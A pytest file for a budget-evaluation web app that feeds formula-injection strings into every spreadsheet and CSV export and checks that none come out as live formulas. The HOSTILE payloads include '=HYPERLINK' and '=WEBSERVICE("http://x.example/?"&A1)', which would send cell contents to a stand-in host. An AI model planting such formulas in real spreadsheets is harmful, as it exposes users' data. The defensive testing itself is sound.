"""Every spreadsheet and CSV the app can produce, made with hostile text in every user-typed field first.

The exports are found from the URL map (every route ending in a file type) and the CLI (every command),
and the code that calls the one safe writer; a new export that this test does not produce makes it fail.
Each .xlsx is unzipped and fails on any formula except the app's own SUM in the meeting summary's total
row; each CSV cell that a spreadsheet program would read as a formula fails.
"""
import ast
import csv
import io
import re
import zipfile
from pathlib import Path

import click
import pandas as pd
from openpyxl import load_workbook
from openpyxl.utils import get_column_letter
import pytest
from sqlalchemy import select

from budget_eval.evaluation import feedback
from budget_eval.evaluation import operations as evaluation, publication
from budget_eval.evaluation.hotwords import year_hot_words
from budget_eval.evaluation.survey_import import import_responses, read_responses
from budget_eval.intake.domain.screening_rows import INPUT_HEADERS
from budget_eval.meetings.models import Meeting
from budget_eval.platform.domain.roles import Role
from budget_eval.platform.extensions import db
from budget_eval.platform import spreadsheets
from budget_eval.platform.spreadsheets import FORMULA_STARTS
from tests.web.client import WebClient
from tests.web.flow import World
from tests.web.factories import TESTER

PACKAGE = Path(__file__).resolve().parents[2] / "budget_eval"
LINK = '=HYPERLINK("http://x.example/","点击")'
HOSTILE = (LINK, '=WEBSERVICE("http://x.example/?"&A1)', "@SUM(1)", "+1", "-1", "\t=1+1", "\r=1+1")
APP_FORMULA = re.compile(r"^SUM\([A-Z]+\d+:[A-Z]+\d+\)$")

# every route that answers with a file, and the CLI commands, as the app declares them
FILE_ROUTES = {"admin.audit_export", "evaluation.notice", "evaluation.comments", "meetings.pack", "meetings.budget",
               "reports.assessment_report", "reports.opinion_sheet", "feedback.hotwords_xlsx", "feedback.report",
               "evaluation.template", "screening.template", "economy.library_template",
               "reviews.material_page"}  # uploads answer with files too: see WRITERS (a material page is a PNG)
SPREADSHEET_CLI = {"screen", "meeting-pack", "survey import", "hotwords"}
OTHER_CLI = {"create-admin", "seed-demo", "rules check", "report", "backup", "restore", "evaluation open",
             "template"}  # template: an import template, no user text (checked in test_templates_hold_no_formula…)
# functions that call the safe writer; each one's output is produced below
WRITERS = {"_download", "comments", "write_xlsx", "write_rejected", "results_xlsx", "summary_xlsx",
           "hotwords_command", "analysis_xlsx", "comments_xlsx", "template_xlsx", "budget_xlsx",
           "rejected_outcome"}  # rejected_outcome: an import job's rejected rows (platform.upload_jobs; survey, leaders, screening)


def name(n: int) -> str:
    return HOSTILE[n % len(HOSTILE)] + f"单位{n}"


def formulas_of(xlsx: bytes, where: str) -> list[str]:
    """Every formula in the workbook, except the app's SUMs; and the file must hold hostile text."""
    with zipfile.ZipFile(io.BytesIO(xlsx)) as book:
        xml = {part: book.read(part).decode("utf-8") for part in book.namelist() if part.endswith(".xml")}
    found = [f for text in xml.values() for f in re.findall(r"<(?:\w+:)?f[ >](.*?)</(?:\w+:)?f>", text, re.S)]
    assert any(h[:12].replace('"', "&quot;") in text or h[:12] in text for text in xml.values()
               for h in HOSTILE[:3]), f"{where}: no hostile text reached this file, so it proves nothing"
    return [f for f in found if not APP_FORMULA.match(f.split(">")[-1])]


def csv_formulas(data: bytes, where: str) -> list[str]:
    cells = [c for row in csv.reader(io.StringIO(data.decode("utf-8-sig"))) for c in row]
    assert any(c.startswith("'=") for c in cells), f"{where}: no hostile text reached this file"
    return [c for c in cells if c.startswith(FORMULA_STARTS)]


class Collector:
    """Every produced file by the export it came from."""

    def __init__(self):
        self.files: dict[str, bytes] = {}

    def add(self, key: str, data: bytes) -> None:
        if data[:2] == b"PK" and key.endswith(".zip"):
            with zipfile.ZipFile(io.BytesIO(data)) as pack:
                for inner in pack.namelist():
                    if inner.endswith(".xlsx"):
                        self.files[f"{key}/{inner}"] = pack.read(inner)
        else:
            self.files[key] = data


def sheet(rows, columns) -> bytes:
    """An uploaded file whose cells hold the hostile text as text (as a user would type it into Excel)."""
    return spreadsheets.xlsx(spreadsheets.Table("Sheet1", [spreadsheets.Column(c, "text") for c in columns], rows))


def assessment_exports(app, make, got: Collector, tmp_path) -> None:
    """Proposal, department, opinion and login name hostile; the meeting pack (web and CLI), the audit export."""
    world = World(app, make)
    world.department.name = name(0)
    db.session.commit()
    proposal = world.submit(name=LINK)
    world.to_finance_review(proposal)
    for member in world.assign(proposal, [world.finance, *world.experts[:2]]):
        world.declare_and_score(member, "9.5")
    world.conclude(proposal, opinion=HOSTILE[1])
    WebClient(app).post("/login", {"username": HOSTILE[1], "password": "x"})  # an anonymous attempt, audited
    world.to_reviewed(proposal)
    admin = world.client(world.admin)
    admin.post("/meetings/", {"kind": "executive", "title": HOSTILE[2], "proposal_id": str(proposal.id),
                              "order": "score"})
    meeting = db.session.scalar(select(Meeting))
    got.add("meetings.pack.zip", admin.get(f"/meetings/{meeting.id}/pack.zip").data)
    out = tmp_path / "pack.zip"
    result = app.test_cli_runner().invoke(args=["meeting-pack", str(proposal.id), "-o", str(out), "--title", LINK])
    assert result.exit_code == 0, result.output
    got.add("cli meeting-pack.zip", out.read_bytes())
    admin.post(f"/meetings/items/{meeting.items[0].id}/decide", {
        "decision": "approved", "approved-2027": "9000", "approved-2028": "15000", "cut_reason": HOSTILE[3]})
    got.add("meetings.budget", admin.get("/meetings/budget.xlsx").data)
    got.add("admin.audit_export", admin.get("/admin/audit.xlsx").data)


def evaluation_exports(app, make, got: Collector, tmp_path) -> None:
    departments = [make.department(name(n)) for n in range(1, 4)]
    office, staff = make.user(Role.EVAL_OFFICE), make.user(Role.DEPARTMENT, departments[0])
    record = evaluation.open_year(2026, "hangzhou", TESTER)
    columns = ["受访者编号", "受访者类别", "被评单位", "评价", "意见建议"]
    good = [(f"R{n}", "市民代表", d.name, "满意", HOSTILE[n % 7] + "地铁太挤") for n, d in enumerate(departments * 3)]
    bad = [(HOSTILE[n], HOSTILE[n + 1], HOSTILE[n + 2], HOSTILE[n + 3], HOSTILE[(n + 4) % 7]) for n in range(3)]
    client = WebClient(app)
    client.login(office)
    response = client.post("/evaluation/2026/survey", {"file": (io.BytesIO(sheet(good + bad, columns)), "问卷.xlsx")},
                           content_type="multipart/form-data")
    got.add("evaluation.survey (rejected rows)", client.job(response)[1])
    leaders = sheet([(departments[0].name, HOSTILE[3], "90"), (HOSTILE[0], HOSTILE[4], HOSTILE[5])],
                    ["被评单位", "领导", "得分"])
    response = client.post("/evaluation/2026/leaders", {"file": (io.BytesIO(leaders), "领导.xlsx")},
                           content_type="multipart/form-data")
    got.add("evaluation.leaders (rejected rows)", client.job(response)[1])
    unit = next(u for u in record.units if u.department_id == departments[0].id)
    feedback.confirm_all(record, office)  # the unit sees comments the office has confirmed (反馈确认)
    db.session.commit()
    own = WebClient(app)
    own.login(staff)
    got.add("evaluation.comments", own.get(f"/evaluation/units/{unit.id}/comments.xlsx").data)
    got.add("feedback.hotwords_xlsx", client.get("/evaluation/2026/hotwords.xlsx").data)
    word = year_hot_words(record).city.criticism[0].word
    got.add("feedback.hotword_comments (xlsx)",
            client.get("/evaluation/2026/hotwords/comments", query_string={"word": word, "format": "xlsx"}).data)
    publication.publish(record, TESTER, {publication.ALL_MISSING: "测试：数据未录入"})
    got.add("evaluation.notice.xlsx", client.get("/evaluation/2026/notice.xlsx").data)

    runner = app.test_cli_runner()
    source = tmp_path / "问卷.csv"
    source.write_bytes(pd.DataFrame(bad, columns=columns).to_csv(index=False).encode("utf-8-sig"))
    assert runner.invoke(args=["survey", "import", str(source), "--year", "2026"]).exit_code == 0
    got.add("cli survey import (rejected rows .csv)", (tmp_path / "问卷_拒收.csv").read_bytes())
    source = tmp_path / "问卷2.xlsx"
    source.write_bytes(sheet(bad, columns))
    assert runner.invoke(args=["survey", "import", str(source), "--year", "2026"]).exit_code == 0
    got.add("cli survey import (rejected rows .xlsx)", (tmp_path / "问卷2_拒收.xlsx").read_bytes())
    out = tmp_path / "热词.xlsx"
    result = runner.invoke(args=["hotwords", "--year", "2026", "-o", str(out)])
    assert result.exit_code == 0, result.output
    got.add("cli hotwords", out.read_bytes())


def screening_exports(app, make, got: Collector, tmp_path) -> None:
    rows = [[HOSTILE[n], HOSTILE[n + 1], "基建投资项目" if n % 2 else HOSTILE[n + 2], "是", "25,000", "否"]
            for n in range(5)]
    content = sheet(rows, list(INPUT_HEADERS))
    client = WebClient(app)
    client.login(make.user(Role.REVIEWER))
    response = client.post("/screening/batch", {"file": (io.BytesIO(content), "清单.xlsx")},
                           content_type="multipart/form-data")
    got.add("screening.batch", client.job(response)[1])
    source, out = tmp_path / "清单.xlsx", tmp_path / "结果.xlsx"
    source.write_bytes(content)
    assert app.test_cli_runner().invoke(args=["screen", str(source), "-o", str(out)]).exit_code == 0
    got.add("cli screen", out.read_bytes())


def test_no_export_carries_a_formula_from_user_data(app, make, tmp_path):
    got = Collector()
    assessment_exports(app, make, got, tmp_path)
    evaluation_exports(app, make, got, tmp_path)
    screening_exports(app, make, got, tmp_path)
    assert len(got.files) == 15, sorted(got.files)
    for where, data in got.files.items():
        if data.startswith(b"PK"):
            assert formulas_of(data, where) == [], where
            assert_laid_out(load_workbook(io.BytesIO(data)), where)
        else:
            assert csv_formulas(data, where) == [], where


def test_templates_hold_no_formula_and_are_laid_out(app, make):
    """The import templates carry no user text; they must still hold no formula and print properly."""
    office = WebClient(app)
    office.login(make.user(Role.EVAL_OFFICE))
    office.post("/evaluation/", {"year": "2026", "scheme": "hangzhou"})
    reviewer = WebClient(app)
    reviewer.login(make.user(Role.REVIEWER))
    files = {"evaluation.template survey": office.get("/evaluation/2026/template/survey.xlsx"),
             "evaluation.template leader_scores": office.get("/evaluation/2026/template/leader_scores.xlsx"),
             "screening.template": reviewer.get("/screening/template.xlsx")}
    for where, response in files.items():
        assert response.status_code == 200 and response.data[:2] == b"PK", where
        with zipfile.ZipFile(io.BytesIO(response.data)) as book:
            xml = "".join(book.read(p).decode("utf-8") for p in book.namelist() if p.endswith(".xml"))
        assert re.findall(r"<(?:\w+:)?f[ >]", xml) == [], where
        assert "dataValidation" in xml or "leader" in where, where  # drop-downs (类别, 评价, 是/否) and amounts ≥ 0
        assert_laid_out(load_workbook(io.BytesIO(response.data)), where)


def assert_laid_out(book, where: str) -> None:
    """Issue 12 item 6: a named sheet, fitted widths, frozen header, A4 fitted to width, header repeated."""
    for sheet in book.worksheets:
        assert not sheet.title.startswith("Sheet"), where
        assert sheet.freeze_panes and sheet.print_title_rows, where
        assert int(sheet.page_setup.paperSize) == 9 and sheet.page_setup.fitToWidth == 1, where
        assert sheet.sheet_properties.pageSetUpPr.fitToPage, where
        widths = [sheet.column_dimensions[get_column_letter(n)].width for n in range(1, sheet.max_column + 1)]
        assert all(w and w >= 6 for w in widths), where


def test_the_test_covers_every_export(app):
    routes = {r.endpoint for r in app.url_map.iter_rules() if re.search(r"\.(\w+|<\w+>)$", r.rule)
              and r.endpoint != "static"}
    assert routes == FILE_ROUTES  # a new download route: add it here and, if it is a spreadsheet, above

    def commands(group, prefix=""):
        for key, command in group.commands.items():
            if isinstance(command, click.Group):
                yield from commands(command, f"{prefix}{key} ")
            else:
                yield prefix + key

    found = {c for c in commands(app.cli) if not c.startswith("db ")}
    assert found == SPREADSHEET_CLI | OTHER_CLI, (
        f"new or removed commands {found ^ (SPREADSHEET_CLI | OTHER_CLI)}: classify them here, and if one writes "
        "a spreadsheet or CSV, produce it with hostile input in test_no_export_carries_a_formula_from_user_data")
    callers = set()
    for path in PACKAGE.rglob("*.py"):
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.FunctionDef | ast.AsyncFunctionDef) and any(
                    isinstance(n, ast.Attribute) and isinstance(n.value, ast.Name) and n.value.id == "spreadsheets"
                    and n.attr in ("xlsx", "table_csv", "csv_bytes", "write_table") for n in ast.walk(node)):
                callers.add(node.name)
    assert callers == WRITERS, f"functions that write spreadsheets changed: {callers ^ WRITERS}; cover them above"


# the writer is spreadsheets.py and its openpyxl half spreadsheet_xlsx.py (imported only by spreadsheets.xlsx)
@pytest.mark.parametrize("path", sorted(p for p in PACKAGE.rglob("*.py")
                                        if p.name not in ("spreadsheets.py", "spreadsheet_xlsx.py")
                                        and "migrations" not in p.parts), ids=lambda p: str(p.relative_to(PACKAGE)))
def test_only_the_safe_writer_writes_spreadsheets(path):
    text = path.read_text(encoding="utf-8")
    assert not re.search(r"\.to_excel\(|ExcelWriter|openpyxl|csv\.writer|csv\.DictWriter|Workbook\(", text)
    assert ".to_csv(" not in text or "FROM STDIN" in text  # only the feed of PostgreSQL's COPY, never a file


def test_rejected_rows_carry_their_source_row_number(app, setup_year, tmp_path):
    from tests.web.test_evaluation import BAD, GOOD, survey_sheet

    client = setup_year
    response = client.post("/evaluation/2026/survey", {"file": (io.BytesIO(survey_sheet(GOOD + BAD)), "问卷.xlsx")},
                           content_type="multipart/form-data")
    sheet = load_workbook(io.BytesIO(client.job(response)[1])).active
    assert sheet["A1"].value == "原表行号" and sheet.title == "问卷拒收行"
    assert [sheet.cell(r, 1).value for r in range(2, sheet.max_row + 1)] == [7, 8, 9, 10, 11]  # header is row 1
    lines = ["受访者编号,受访者类别,被评单位,评价,意见建议", "R9,市民代表,杭州市交通运输局,满意,好", "",
             "R10,路人,杭州市交通运输局,满意,"]
    source = tmp_path / "问卷.csv"
    source.write_text("\n".join(lines), encoding="utf-8")
    assert app.test_cli_runner().invoke(args=["survey", "import", str(source), "--year", "2026"]).exit_code == 0
    rejected = list(csv.reader(io.StringIO((tmp_path / "问卷_拒收.csv").read_text(encoding="utf-8-sig"))))
    assert rejected[0][0] == "原表行号" and [r[0] for r in rejected[1:]] == ["4"]  # the blank line counts


@pytest.fixture
def setup_year(app, make):
    for name_ in ("杭州市交通运输局", "杭州市城市管理局", "杭州市教育局"):
        make.department(name_)
    client = WebClient(app)
    client.login(make.user(Role.EVAL_OFFICE))
    client.post("/evaluation/", {"year": "2026", "scheme": "hangzhou"})
    return client
